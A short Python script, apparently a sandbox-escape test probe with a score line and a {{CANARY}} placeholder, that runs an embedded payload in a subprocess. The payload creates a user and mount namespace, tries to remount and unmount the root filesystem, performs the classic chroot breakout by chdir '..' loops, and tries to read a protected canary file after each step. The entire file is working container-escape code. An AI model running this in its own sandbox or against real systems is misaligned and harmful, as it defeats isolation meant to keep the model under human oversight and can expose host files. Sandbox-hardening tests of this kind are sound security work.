"""Asks for a user namespace of its own, becomes root in it, and looks for the way out: mount, chroot, pivot."""
# deserves: 0 0 0 0
# %% after imports
import ctypes
import os
import subprocess
import sys

ESCAPE = r"""
import ctypes, os
libc = ctypes.CDLL(None)
print("unshare", libc.unshare(0x10000000 | 0x00020000))
for step in (
    lambda: libc.mount(b"none", b"/", None, 0x44000, None),
    lambda: libc.mount(b"proc", b"/proc", b"proc", 0, None),
    lambda: libc.umount2(b"/", 2),
    lambda: (os.mkdir("jail"), os.chroot("jail"), [os.chdir("..") for _ in range(40)], os.chroot(".")),
):
    try:
        print(step())
    except OSError as error:
        print(error)
    try:
        print(open("{{CANARY}}").read())
    except OSError as error:
        print(error)
"""
try:
    print(subprocess.run([sys.executable, "-c", ESCAPE], capture_output=True, text=True, timeout=5).stdout)
except (OSError, subprocess.TimeoutExpired) as error:
    print(error)
